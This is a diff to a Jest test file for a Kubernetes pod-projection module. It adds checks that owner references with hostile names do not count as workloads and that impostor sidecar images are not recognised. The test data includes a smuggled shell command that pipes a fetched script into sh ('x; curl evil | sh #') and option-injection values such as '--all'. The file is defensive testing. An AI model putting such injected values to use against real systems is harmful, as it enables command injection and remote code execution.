@@ -1,6 +1,6 @@
 import { describe, expect, test } from "@jest/globals";
 import type { KubeObject } from "../kube/kube-object.ts";
-import { createPodIndex, projectPod, readyReplicas } from "./pods.ts";
+import { createPodIndex, podProjection, readyReplicas } from "./pods.ts";
 import { podOf } from "./testing/records.ts";
 
 function raw(metadata: object = {}, spec: object = {}, status: object = {}): KubeObject {
@@ -9,7 +9,9 @@ function raw(metadata: object = {}, spec: object = {}, status: object = {}): Kub
       namespace: "shop",
       name: "web-6d5f7c9b8d-x2x4z",
       labels: { app: "web", "pod-template-hash": "6d5f7c9b8d" },
-      ownerReferences: [{ kind: "ReplicaSet", name: "web-6d5f7c9b8d", controller: true }],
+      ownerReferences: [
+        { apiVersion: "apps/v1", kind: "ReplicaSet", name: "web-6d5f7c9b8d", controller: true },
+      ],
       ...metadata,
     },
     spec: { restartPolicy: "Always", containers: [{ name: "web", image: "web" }], ...spec },
@@ -17,6 +19,8 @@ function raw(metadata: object = {}, spec: object = {}, status: object = {}): Kub
   };
   return pod as unknown as KubeObject;
 }
+
+const projectPod = podProjection("registry.example/healthpolicy/sidecar:1");
 
 const MARKS = {
   annotations: { "healthpolicy.dev/policy": "web", "healthpolicy.dev/revision": "abc" },
@@ -69,8 +73,29 @@ describe("projectPod", () => {
     ["DaemonSet", "agent", "daemonset/agent"],
     ["Job", "once", undefined],
   ])("the workload of a pod of a %s", (kind, name, workload) => {
-    const ownerReferences = [{ kind, name, controller: true }];
+    const ownerReferences = [{ apiVersion: "apps/v1", kind, name, controller: true }];
     expect(projectPod(raw({ ownerReferences }))?.workload).toBe(workload);
+  });
+
+  test.each([
+    ["a command", { name: "x; curl evil | sh #" }],
+    ["a command before the hash", { kind: "ReplicaSet", name: "x --all -A #-6d5f7c9b8d" }],
+    ["an option", { name: "--all" }],
+    ["a name that is too long", { name: "a".repeat(254) }],
+    ["a kind of another API", { apiVersion: "evil.example/v1", name: "web" }],
+    ["a ReplicaSet without the pod's hash", { kind: "ReplicaSet", name: "web-other" }],
+    ["nothing before the hash", { kind: "ReplicaSet", name: "-6d5f7c9b8d" }],
+  ])("an owner that is %s is no workload", (_what, owner) => {
+    const given = { apiVersion: "apps/v1", kind: "StatefulSet", controller: true, ...owner };
+    expect(projectPod(raw({ ownerReferences: [given] }))?.workload).toBeUndefined();
+  });
+
+  test("another container of our name is not ours; ours from a mirror, or of another version, is", () => {
+    const carrying = (image: string) => ({
+      initContainers: [{ name: "healthpolicy-sidecar", image }],
+    });
+    expect(projectPod(raw(MARKS, carrying("evil/other:1")))?.sidecar).toBeUndefined();
+    expect(projectPod(raw(MARKS, carrying("mirror.example/sidecar:0")))?.sidecar).toBeDefined();
   });
 
   test("a bare pod has no workload", () => {
